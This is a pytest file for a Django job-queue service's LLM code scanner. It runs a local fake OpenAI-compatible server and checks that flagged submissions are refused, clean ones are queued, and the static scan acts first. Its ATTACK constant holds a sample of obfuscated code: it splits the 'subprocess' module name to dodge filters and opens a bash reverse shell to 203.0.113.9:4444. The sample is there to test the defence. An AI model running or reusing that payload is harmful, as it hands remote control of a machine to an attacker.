"""The optional LLM code scan against an OpenAI-compatible server on this machine (a real HTTP server).

The server answers /v1/chat/completions the way vLLM or Ollama's OpenAI endpoint does; the verdicts
are the ones the scan's prompt asks for.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from jobqueue_helpers import bearer, submission

from jobqueue import scanner
from jobqueue.models import Job

pytestmark = pytest.mark.django_db

ATTACK = (
    "import numpy as np, importlib\n"
    'importlib.import_module("subpro" + "cess").run(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])\n'
)


class ChatServer:
    """Answers every chat completion with ``verdict`` (a dict, sent as the model's JSON text)."""

    def __init__(self) -> None:
        self.verdict: dict[str, object] = {}
        self.fenced = False
        self.requests: list[dict] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                owner.requests.append({"path": self.path, "auth": self.headers.get("Authorization"), "body": body})
                content = json.dumps(owner.verdict)
                if owner.fenced:
                    content = f"```json\n{content}\n```"
                message = {"role": "assistant", "content": content}
                choice = {"index": 0, "finish_reason": "stop", "message": message}
                answer = json.dumps(
                    {"id": "chatcmpl-1", "object": "chat.completion", "model": body["model"], "choices": [choice]}
                ).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(answer)))
                self.end_headers()
                self.wfile.write(answer)

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/v1"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def llm(settings):
    server = ChatServer()
    settings.JOBQUEUE_SCAN_LLM_URL = server.url
    settings.JOBQUEUE_SCAN_LLM_MODEL = "qwen2.5-coder:7b"
    settings.JOBQUEUE_SCAN_LLM_API_KEY = "sk-local"
    settings.JOBQUEUE_SCAN_LLM_TIMEOUT = 5
    yield server
    server.close()


def test_a_malicious_verdict_refuses_the_job_with_the_reason(client, alice_key, llm):
    llm.verdict = {"malicious": True, "ml_related": False, "reason": "opens a reverse shell to 203.0.113.9"}
    llm.fenced = True  # models often wrap their JSON in a fence
    response = client.post("/jobqueue/api/submit", submission(code=ATTACK), **bearer(alice_key))
    assert response.status_code == 400, response.content
    assert response.json()["errors"]["code"] == [
        "the LLM code scan flagged the code: opens a reverse shell to 203.0.113.9"
    ]
    assert not Job.objects.exists()
    [asked] = llm.requests
    assert (asked["path"], asked["auth"]) == ("/v1/chat/completions", "Bearer sk-local")
    assert asked["body"]["model"] == "qwen2.5-coder:7b"
    assert asked["body"]["messages"][1]["content"] == ATTACK  # the code itself, as the user message
    assert "malicious" in asked["body"]["messages"][0]["content"]


def test_a_clean_verdict_queues_the_job_and_non_ml_code_is_a_warning(llm):
    llm.verdict = {"malicious": False, "ml_related": True, "reason": "trains a model"}
    assert scanner.scan("import numpy as np\nprint(np.ones(3))\n").ok
    llm.verdict = {"malicious": False, "ml_related": False, "reason": "prints the date"}
    result = scanner.scan("import numpy as np\nimport datetime\nprint(datetime.date.today())\n")
    assert result.ok
    assert result.warnings == ["the LLM code scan found no ML work: prints the date"]


def test_the_static_scan_refuses_before_the_llm_is_asked(llm):
    llm.verdict = {"malicious": False, "ml_related": True, "reason": ""}
    assert not scanner.scan("import socket\n").ok
    assert llm.requests == []
